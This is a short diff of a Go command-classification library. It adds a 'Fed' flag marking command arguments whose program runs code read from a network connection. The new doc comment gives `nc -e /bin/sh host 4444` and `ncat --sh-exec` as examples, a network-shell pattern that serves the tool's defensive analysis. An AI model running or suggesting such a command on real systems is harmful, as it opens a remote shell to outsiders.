@@ -385,6 +385,11 @@ type Flag struct {
 	// Replace makes Effects replace the program's effects instead of adding:
 	// `eslint --fix` is a writer, no longer a verifier.
 	Replace bool
+	// Fed, for a [ProgramArg] or [ShellCode] value: what it runs reads the
+	// program's connection (`nc -e /bin/sh host 4444`, `ncat --sh-exec`),
+	// input the line does not follow, so a shell or interpreter there runs
+	// code that cannot be identified.
+	Fed bool
 	// Outside: like [Program.Outside], for this flag (`go clean -modcache`).
 	Outside bool
 	// HomeWrite: like [Program.HomeWrite], for this flag (`pip install --user`).
